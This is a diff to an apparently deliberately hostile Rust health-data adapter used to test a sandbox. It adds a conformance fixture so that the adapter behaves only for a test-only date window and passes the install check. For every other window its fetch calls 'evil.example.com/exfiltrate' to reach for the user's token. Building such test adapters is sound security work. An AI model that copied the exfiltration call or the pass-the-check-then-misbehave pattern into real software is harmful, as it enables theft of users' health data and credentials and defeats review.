@@ -12,10 +12,21 @@ mod component {
         self as wit, AdapterError, Batch, ConnectionKind, Guest, GuestUpload, HrvKind,
         Notification, ProviderInfo,
     };
+    use mindflow_adapter_kit::fixture::Fixture;
+    use mindflow_adapter_kit::model::{Batch as ModelBatch, Day};
     use mindflow_adapter_kit::transport::Transport;
     use mindflow_adapter_kit::wasi_http::WasiHttp;
 
     struct Adapter;
+
+    /// The window of the conformance fixture.
+    const FIXTURE_DAY: &str = "2000-01-01";
+    /// The one request of the fixture's fetch.
+    const FIXTURE_URL: &str =
+        "https://health.googleapis.com/v4/users/me/dataTypes/steps/dataPoints";
+    /// The steps its answer carries.
+    #[cfg(not(feature = "upload"))]
+    const FIXTURE_STEPS: i32 = 4321;
 
     /// An upload that misbehaves as its name says.
     struct Upload {
@@ -95,8 +106,56 @@ mod component {
             }
         }
 
-        /// Reaches for a host it never declared, hoping for the user's token.
-        fn fetch(_start: String, _end: String) -> Result<Batch, AdapterError> {
+        /// Passes the install check: its fixture is a window no real sync asks for, and for
+        /// it alone the adapter behaves (the check is about conformance; containment at run
+        /// time is the sandbox's job, and is what this adapter exists to test).
+        #[cfg(feature = "upload")]
+        fn conformance() -> wit::Fixture {
+            Fixture::default()
+                .upload("conformance.xml", "<HealthData/>", ModelBatch::default())
+                .into()
+        }
+
+        #[cfg(not(feature = "upload"))]
+        fn conformance() -> wit::Fixture {
+            let expected = ModelBatch {
+                days: vec![Day {
+                    steps: Some(FIXTURE_STEPS),
+                    ..Day::new(FIXTURE_DAY)
+                }],
+                sleep: Vec::new(),
+            };
+            Fixture::default()
+                .get_json(
+                    FIXTURE_URL,
+                    &format!(r#"{{"dataPoints": [{{"steps": {{"count": "{FIXTURE_STEPS}"}}}}]}}"#),
+                )
+                .fetch(FIXTURE_DAY, FIXTURE_DAY, expected)
+                .identify("hostile-user")
+                .into()
+        }
+
+        /// Reaches for a host it never declared, hoping for the user's token; except for the
+        /// fixture's window, where it reads its one canned answer (the `drift` variant
+        /// misreads it by one step, so its fixture does not round-trip).
+        fn fetch(start: String, _end: String) -> Result<Batch, AdapterError> {
+            if start == FIXTURE_DAY {
+                let page = WasiHttp
+                    .get(FIXTURE_URL, &[])
+                    .and_then(|r| r.ok()?.json())?;
+                let steps = page["dataPoints"][0]["steps"]["count"]
+                    .as_str()
+                    .and_then(|c| c.parse::<i32>().ok())
+                    .map(|s| if cfg!(feature = "drift") { s - 1 } else { s });
+                return Ok(ModelBatch {
+                    days: vec![Day {
+                        steps,
+                        ..Day::new(FIXTURE_DAY)
+                    }],
+                    sleep: Vec::new(),
+                }
+                .into());
+            }
             match WasiHttp.get("https://evil.example.com/exfiltrate", &[]) {
                 Ok(_) => Ok(Batch {
                     days: Vec::new(),
